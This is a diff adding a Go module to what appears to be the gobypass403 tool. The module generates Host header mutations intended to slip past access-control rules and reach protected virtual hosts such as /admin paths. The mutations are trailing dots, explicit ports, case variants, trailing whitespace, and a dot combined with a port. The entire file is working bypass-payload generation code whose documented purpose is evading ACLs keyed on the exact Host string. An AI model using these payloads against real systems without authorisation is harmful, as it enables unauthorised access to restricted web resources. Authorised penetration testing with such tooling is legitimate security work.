@@ -0,0 +1,136 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GenerateHTTPHostMutationsPayloads generates payloads by mutating the original Host header
+value, while the request is still sent to the original host.
+
+Unlike headers_host (which swaps the host for the IPs/CNAMEs found during recon), these
+variants target virtual host routing quirks: ACLs keyed on the exact Host string miss
+them, while the backend still normalizes them to the protected vhost.
+
+For a URL like https://example.com/admin, it creates these Host header values:
+1. Trailing dot (FQDN form):
+  - example.com.
+
+2. Explicit port (default port of the scheme, and the other default port):
+  - example.com:443
+  - example.com:80
+
+3. Case variations:
+  - EXAMPLE.COM
+  - Example.com
+
+4. Trailing whitespace:
+  - "example.com " (trailing space)
+  - "example.com\t" (trailing tab)
+
+5. Trailing dot combined with an explicit port:
+  - example.com.:443
+
+When the URL has an explicit port, the Host header without the port is tried as well.
+The original path and query string are preserved in all generated payloads.
+*/
+func (pg *PayloadGenerator) GenerateHTTPHostMutationsPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return allJobs
+	}
+
+	allJobs = hostMutationPayloads(targetURL, parsedURL, bypassModule)
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(allJobs), targetURL)
+	return allJobs
+}
+
+// hostMutationPayloads generates the Host header mutation payloads of http_host_mutations,
+// also used by headers_host when there are no recon results for the host
+func hostMutationPayloads(targetURL string, parsedURL *rawurlparser.RawURL, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	hostname := parsedURL.Hostname
+	if hostname == "" {
+		return allJobs
+	}
+
+	pathAndQuery := parsedURL.Path
+	if pathAndQuery == "" {
+		pathAndQuery = "/"
+	}
+	if parsedURL.Query != "" {
+		pathAndQuery += "?" + parsedURL.Query
+	}
+
+	// Port the original Host header would carry, or the scheme default
+	port := parsedURL.Port
+	if port == "" {
+		port = "80"
+		if parsedURL.Scheme == "https" {
+			port = "443"
+		}
+	}
+
+	var hostValues []string
+
+	// 1. Trailing dot
+	hostValues = append(hostValues, hostname+".")
+
+	// 2. Explicit ports
+	hostValues = append(hostValues, hostname+":"+port)
+	for _, p := range []string{"80", "443"} {
+		if p != port {
+			hostValues = append(hostValues, hostname+":"+p)
+		}
+	}
+	if parsedURL.Port != "" {
+		hostValues = append(hostValues, hostname)
+	}
+
+	// 3. Case variations
+	hostValues = append(hostValues, strings.ToUpper(hostname))
+	hostValues = append(hostValues, strings.ToUpper(hostname[:1])+hostname[1:])
+
+	// 4. Trailing whitespace
+	hostValues = append(hostValues, parsedURL.Host+" ", parsedURL.Host+"\t")
+
+	// 5. Trailing dot with explicit port
+	hostValues = append(hostValues, hostname+".:"+port)
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		RawURI:       pathAndQuery,
+		BypassModule: bypassModule,
+	}
+
+	// Map to store unique Host values (for deduplication), the original one included
+	seen := map[string]struct{}{parsedURL.Host: {}}
+
+	for _, value := range hostValues {
+		if _, ok := seen[value]; ok {
+			continue
+		}
+		seen[value] = struct{}{}
+
+		job := baseJob
+		job.Headers = []Headers{{
+			Header: "Host",
+			Value:  value,
+		}}
+		job.PayloadToken = GeneratePayloadToken(job)
+		allJobs = append(allJobs, job)
+	}
+
+	return allJobs
+}